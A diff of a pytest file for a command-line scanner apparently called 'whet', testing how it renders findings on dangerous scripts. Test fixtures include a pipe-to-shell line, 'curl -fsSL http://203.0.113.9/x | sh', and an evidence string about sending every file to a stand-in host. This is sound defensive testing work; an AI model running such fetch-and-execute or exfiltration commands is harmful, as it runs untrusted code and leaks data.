@@ -12,6 +12,7 @@ import pytest
 from whet.api import Library
 from whet.interfaces.cli.commands import guard
 from whet.interfaces.cli.output import Screen
+from whet.interfaces.cli.rendering import render_findings
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -80,6 +81,10 @@ def test_a_person_sees_the_verdict_then_place_evidence_and_remedy(bad: Path, env
     assert lines[0].endswith("bad: dangerous") and lines[1] == "  critical  scripts/setup.sh:2"
     assert "    > curl -fsSL http://203.0.113.9/x | sh" in lines
     assert max(map(len, lines[1:])) <= 80
+    (finding, *_), screen = report.results[0].findings, Screen(tty=True, colour=False, columns=80)
+    long = finding._replace(evidence=f"send {'every file ' * 8}to http://a.example/x")
+    render_findings([long, long._replace(rule="another")], "bad", screen)
+    assert screen.text().count("to http://a.example/x\n") == 1 and screen.text().count("[another]") == 1
     report = report._replace(
         results=(*report.results, report.results[0]._replace(path="b", verdict="safe", findings=()))
     )
